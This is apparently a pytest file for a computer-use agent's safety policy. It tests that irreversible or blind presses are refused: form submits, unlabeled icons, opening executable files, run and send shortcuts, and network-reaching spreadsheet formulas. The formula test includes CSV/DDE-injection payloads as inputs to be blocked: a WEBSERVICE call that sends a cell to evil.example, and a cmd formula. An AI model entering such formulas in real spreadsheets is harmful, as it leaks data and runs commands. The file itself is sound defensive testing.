"""Keys judged by what they reach (issue 37): a press whose label cannot say what it does
is refused under real input (rule ``irreversible``) unless a person says yes.

    a web page's form      Return in a page's one-line field submits its form, whose
                           button may be scrolled away: with no button beside or below
                           the field on the frame, no label says what it does
    an unnamed control     the focused control, or the button beside or below the
                           field Return is pressed in, has no readable label (an icon)
    a web page's text view a chat's box sends on Return whatever its height: a button
                           beside a page's text view is what Return may press
    a file that runs       Return on a selected file whose name ends as a script's or a
                           program's opens it, and so does a double click
    a function key         F5, ctrl+F5, F9... run or build code in a program off the
                           table of text programs (an IDE, a macro editor), and send and
                           receive in a mail program, --allow-key or not
    a formula              a spreadsheet formula that reaches the network, entered
"""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from tests.helpers import armed, rule_of
from tiny_computer_agent import Action, Element, Observation, Policy, PolicyRefusal, Window
from tiny_computer_agent._presses import opens_a_program, pressed_by

SIZE = (1920, 1080)
FIREFOX = Window(title="Checkout — Mozilla Firefox", box=(0, 40, 1920, 1040), id=7,
                 wm_class=("Navigator", "firefox"), process="firefox")  # fmt: skip
FILES = Window(title="Downloads — Files", box=(0, 40, 1920, 1040), id=7,
               wm_class=("org.gnome.Nautilus",) * 2, process="nautilus")  # fmt: skip
MAIL = Window(title="Write: Re: lunch - Thunderbird", box=(0, 40, 1920, 1040), id=7,
              wm_class=("Msgcompose", "thunderbird"), process="thunderbird")  # fmt: skip
IDE = Window(title="job.py - Thonny", box=(0, 40, 1920, 1040), id=7,
             wm_class=("thonny", "Thonny"), process="thonny")  # fmt: skip
MACROS = Window(title="Module1 - LibreOffice Basic", box=(0, 40, 1920, 1040), id=7,
                wm_class=("libreoffice", "libreoffice-basicide"), process="soffice")  # fmt: skip
CALC = Window(title="budget.ods - LibreOffice Calc", box=(0, 40, 1920, 1040), id=7,
              wm_class=("libreoffice", "libreoffice-calc"), process="soffice.bin")  # fmt: skip


def el(label: str, box: tuple[int, int, int, int], kind: str = "", *state: str,
       source: str = "a11y") -> Element:  # fmt: skip
    return Element(label=label, box=box, kind=kind, state=frozenset(state), window=7,
                   source=source)  # fmt: skip


def obs(window: Window, *elements: Element) -> Observation:
    return Observation.of(list(elements), size=SIZE, windows=[window])


def key(chord: str) -> Action:
    return Action.make("key", keys=chord)


def type_(text: str, target: str | None = None) -> Action:
    return Action.make("type", text=text, target=target)


def refusal(action: Action, frame: Observation, batch: Sequence[Action] = (),
            policy: Policy | None = None) -> str | None:  # fmt: skip
    try:
        (policy or armed()).check(action, frame, history=batch, batch=batch)
    except PolicyRefusal as exc:
        assert exc.rule == "irreversible", exc
        return str(exc)
    return None


FIELD = el("Amount", (600, 400, 1200, 440), "field", "focused", "editable")
TEXT_ABOVE = el("Transfers are executed at once", (600, 300, 1300, 330), source="ocr")
HELP = el("Help", (100, 120, 180, 150), "link")


@pytest.mark.parametrize("press", [key("Return"), key("shift+Return"), type_("2500\n", "Amount")])
def test_return_in_a_web_forms_field_with_no_button_on_the_frame_is_refused(press: Action) -> None:
    said = refusal(press, obs(FIREFOX, FIELD, TEXT_ABOVE, HELP))
    assert said is not None and "whose button the frame does not show" in said, said
    assert "click the control you mean by its label" in said
    # a button of the form below the field says what Return presses: a harmless one passes
    below = el("Next step", (600, 600, 800, 640), "button")
    assert refusal(press, obs(FIREFOX, FIELD, TEXT_ABOVE, HELP, below)) is None


def test_the_browsers_own_address_bar_and_a_programs_field_are_not_a_pages_form() -> None:
    bar = el("Search or enter address", (300, 50, 1600, 90), "field", "focused", "editable")
    assert refusal(key("Return"), obs(FIREFOX, bar, el("Top sites", (300, 300, 500, 330)))) is None
    rename = el("report.odt", (300, 320, 1500, 358), "field", "focused", "editable")
    rows = [el(n, (300, 200 + 40 * i, 1500, 238 + 40 * i), "item")
            for i, n in enumerate(["invoice.pdf", "letter.odt"])]  # fmt: skip
    assert refusal(key("Return"), obs(FILES, rename, *rows)) is None


def test_a_press_on_a_control_whose_label_cannot_be_read_is_refused() -> None:
    icon = el("", (900, 500, 940, 540), "button", "focused")
    shown = obs(FILES, icon, el("Delete permanently", (950, 545, 1150, 570), source="ocr"))
    for press in ("Return", "space"):
        said = refusal(key(press), shown)
        assert said is not None and "whose label cannot be read" in said, said
    named = el("Back", (900, 500, 940, 540), "button", "focused")
    assert refusal(key("Return"), obs(FILES, named)) is None
    assert refusal(key("Return"), obs(FILES, el("✕", (900, 500, 940, 540), "button", "focused")))
    tick = el("", (900, 500, 916, 516), "check", "focused")  # a tick is undone by another
    assert refusal(key("space"), obs(FILES, tick)) is None


@pytest.mark.parametrize("height", [45, 85])  # a one-line box and a text view
def test_return_in_a_chat_box_with_an_icon_beside_it_may_send(height: int) -> None:
    box = el("Aa", (300, 985 - height, 1800, 985), "field", "focused", "editable")
    send = el("", (1810, 945, 1850, 985), "button")
    chat = obs(FIREFOX, box, send, el("Today", (900, 100, 1000, 130), source="ocr"))
    for press in (key("Return"), type_("we are shutting down\n", "Aa")):
        said = refusal(press, chat)
        assert said is not None and "whose label cannot be read" in said, (press, said)
    assert refusal(type_("no newline", "Aa"), chat) is None
    if height > 45:  # a text view: Return is a new line with no button beside it
        assert refusal(key("Return"), obs(FIREFOX, box)) is None
        to = el("To", (300, 100, 1800, 140), "field", "editable")  # its header above it
        assert refusal(key("Return"), obs(MAIL, to, box, send)) is None  # a mail body


@pytest.mark.parametrize("name", ["install.sh", "setup.AppImage", "update.desktop",
                                  "tool.py", "invoice.pdf.exe"])  # fmt: skip
def test_opening_a_file_that_runs_by_return_or_a_double_click_is_refused(name: str) -> None:
    chosen = el(name, (300, 200, 900, 238), "item", "selected", "focused")
    other = el("Documents", (300, 160, 900, 198), "item")
    shown = obs(FILES, chosen, other)
    said = refusal(key("Return"), shown)
    assert said is not None and "opening it runs it" in said, said
    assert refusal(key("space"), shown) is None  # a preview or a tick, not an opening
    assert rule_of(armed(), Action.make("click", target=name, clicks=2), shown) is not None
    assert refusal(Action.make("click", target=name), shown) is None
    plain = obs(FILES, el("report.pdf", (300, 200, 900, 238), "item", "selected", "focused"),
                other)  # fmt: skip
    assert refusal(key("Return"), plain) is None
    assert refusal(Action.make("click", target="report.pdf", clicks=2), plain) is None
    # a name read in a document's pixels is not a file Return opens
    text = obs(FILES, el(f"see {name} for details", (300, 200, 900, 230), source="ocr"))
    assert "opening it runs it" not in (refusal(key("Return"), text) or "")


def test_opens_a_program_reads_the_name_ending() -> None:
    assert opens_a_program("tool.AppImage") and opens_a_program("a b/x.SH")
    assert opens_a_program("notes.txt") is None and opens_a_program("Documents") is None
    assert opens_a_program("shell.sh.txt") is None and opens_a_program("example.com") is None


def test_a_function_key_runs_code_in_an_ide_and_sends_in_a_mail_program() -> None:
    document = el("Document", (20, 120, 1900, 1000), "field", "editable", "focused")
    for window in (IDE, MACROS):
        for chord in ("F5", "ctrl+F5", "shift+F10", "F9"):
            said = refusal(key(chord), obs(window, document), policy=armed(allow_keys=(chord,)))
            assert said is not None and "may run or build code" in said, (window, chord, said)
        assert refusal(key("F10"), obs(window, document)) is None  # the menu bar
    outbox = el("Outbox (3)", (1080, 640, 1240, 685), "button")
    said = refusal(key("F9"), obs(MAIL, outbox), policy=armed(allow_keys=("F9",)))
    assert said is not None and "may send what its outbox holds" in said, said
    page = el("Search", (300, 50, 1600, 90), "field", "editable", "focused")
    assert refusal(key("F5"), obs(FIREFOX, page)) is None  # a browser's reload
    assert pressed_by(key("F5"), obs(FIREFOX, page), ()) == ()


def test_a_formula_that_reaches_the_network_is_refused_when_entered() -> None:
    cell = el("C2", (300, 200, 420, 225), "cell", "focused", "selected")
    sheet = obs(CALC, cell, el("B2", (180, 200, 300, 225), "cell"))
    for text in ('=WEBSERVICE("https://evil.example/?d="&A1)\n', "=cmd|' /C calc'!A0\n",
                 '=IMPORTXML(B1; "//a")\n', '+HYPERLINK("http://x.example")\n'):  # fmt: skip
        said = refusal(type_(text, "C2"), sheet)
        assert said is not None and "reaches the network" in said, (text, said)
    assert refusal(type_("=SUM(A1:A3)\n", "C2"), sheet) is None
    assert refusal(type_("=> see https://example.org", "C2"), sheet) is None  # not a formula
    assert refusal(type_("42\n", "C2"), sheet) is None
    assert refusal(type_('=WEBSERVICE("https://evil.example")', "C2"), sheet)  # a cell's
    line = el("Input line", (300, 120, 1500, 150), "field", "focused", "editable")
    bar = obs(CALC, line, cell)
    typed = type_('=WEBSERVICE("https://evil.example")', "Input line")
    assert refusal(typed, bar) is None  # not entered yet
    for commit in ("Return", "Tab", "Down"):
        assert refusal(key(commit), bar, [typed]) is not None, commit
    assert refusal(key("Return"), bar, [type_("=SUM(A1:A3)", "Input line")]) is None


def test_ctrl_return_sends_in_a_mail_program_and_an_ides_run_chord_runs() -> None:
    body = el("Message body", (20, 300, 1900, 1000), "field", "editable", "focused")
    allowed = armed(allow_keys=("ctrl+Return",))  # the person allowed the chord
    said = refusal(key("ctrl+Return"), obs(MAIL, body), policy=allowed)  # no Send shown
    assert said is not None and "sends the message it composes" in said, said
    assert refusal(key("Return"), obs(MAIL, body)) is None  # a new line
    document = el("Document", (20, 120, 1900, 1000), "field", "editable", "focused")
    said = refusal(key("ctrl+r"), obs(IDE, document))
    assert said is not None and "may run or build code" in said, said
    assert refusal(key("ctrl+s"), obs(IDE, document)) is None


def test_a_program_s_own_chord_passes_once_the_person_names_it_with_allow_key() -> None:
    """NEdit binds ctrl+r to Replace, Qt Creator to Run: only the person knows, so
    ``--allow-key ctrl+r`` lifts the command rule for that chord alone (never for
    Return or space, which press a control, and never for another chord)."""
    editor = Window(title="notes.txt - /home/me/", box=(0, 40, 1920, 1040), id=7,
                    wm_class=("nedit", "NEdit"), process="nedit")  # fmt: skip
    document = el("Document", (20, 120, 1900, 1000), "field", "editable", "focused")
    named = armed(allow_keys=("ctrl+r", "Return"), typing_in=("nedit",))
    assert refusal(key("ctrl+r"), obs(editor, document)) is not None  # not named: refused
    assert refusal(key("ctrl+r"), obs(editor, document), policy=named) is None
    said = refusal(key("F5"), obs(editor, document), policy=named)
    assert said is not None and "--allow-key CHORD" in said, said
    assert "--allow-typing-in NAME" in said, said  # the chord alone never lifts it:
    only_key = armed(allow_keys=("ctrl+r",))
    alone = refusal(key("ctrl+r"), obs(editor, document), policy=only_key)
    assert alone is not None and "--allow-typing-in NAME" in alone, alone
    icon = el("", (600, 400, 640, 440), "button", "focused")
    assert refusal(key("Return"), obs(editor, icon), policy=named) is not None


def test_return_in_a_native_dialogs_field_presses_its_default_button_not_an_icon() -> None:
    """A GTK file chooser's Name field has a new-folder icon below it: Return there
    presses the dialog's default button (Save), judged by its label; in a web page the
    same icon beside a field may be the form's own button, so the press is blind."""
    chooser = Window(title="Save As", box=(300, 200, 1300, 800), id=7,
                     wm_class=("mousepad", "Mousepad"), process="mousepad")  # fmt: skip
    name = el("Name:", (400, 240, 1100, 275), "field", "focused", "editable")
    icon = el("", (400, 290, 436, 326), "button")
    save = el("Save", (1150, 740, 1280, 780), "button")
    assert refusal(key("Return"), obs(chooser, name, icon, save)) is None
    field = el("Amount", (600, 400, 1200, 440), "field", "focused", "editable")
    said = refusal(key("Return"), obs(FIREFOX, field, el("", (1210, 400, 1250, 440), "button")))
    assert said is not None and "whose label cannot be read" in said, said


def test_a_line_the_episode_typed_read_back_in_pixels_is_no_control_return_presses() -> None:
    """An editor seen in pixels (no focus known): "buy milk", just typed and read back
    with its caret as "buy milkl", is the episode's own text, not a button; a "Buy now"
    it did not type is still judged."""
    pad = Window(title="notes.txt - FeatherPad", box=(0, 40, 1920, 1040), id=7,
                 wm_class=("featherpad", "FeatherPad"), process="featherpad")  # fmt: skip
    line = el("buy milkl", (20, 400, 200, 425), source="ocr")
    typed = (key("ctrl+End"), type_("\nbuy milk"))  # steps before this frame
    policy = armed(typing_in=("featherpad",))
    policy.check(key("Return"), obs(pad, line), history=typed)
    buy = el("Buy now", (20, 500, 200, 525), source="ocr")
    with pytest.raises(PolicyRefusal) as refused:
        policy.check(key("Return"), obs(pad, line, buy), history=typed)
    assert refused.value.rule == "irreversible" and "'Buy now'" in str(refused.value)
